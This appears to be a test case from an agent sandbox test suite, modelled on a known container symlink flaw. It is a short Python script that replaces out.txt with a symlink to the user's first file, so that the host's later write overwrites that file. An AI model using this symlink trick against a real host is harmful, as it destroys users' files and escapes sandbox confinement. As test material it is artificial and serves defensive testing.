# family: tricked-helper
# tries: make out.txt a symlink to one of the user's own files, so that the host side writing the agent's "updated out.txt" overwrites the user's file
# source: https://nvd.nist.gov/vuln/detail/CVE-2018-15664
# exfil: no
# fileapi: put out.txt
# stopped-when: files-intact
# attempted-when: marker
#
# The target is the first regular file under USERFILES (argv 8), else
# USERFILES/important.txt.
import os
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
print(f"ATTEMPTED {sys.argv[1]}", file=sys.stderr, flush=True)
userfiles = sys.argv[8]
target = os.path.join(userfiles, "important.txt")
for d, dirs, files in sorted(os.walk(userfiles)):
    if files:
        target = os.path.join(d, sorted(files)[0])
        break
if os.path.lexists("out.txt"):
    os.unlink("out.txt")
os.symlink(target, "out.txt")
print("out.txt is ready")
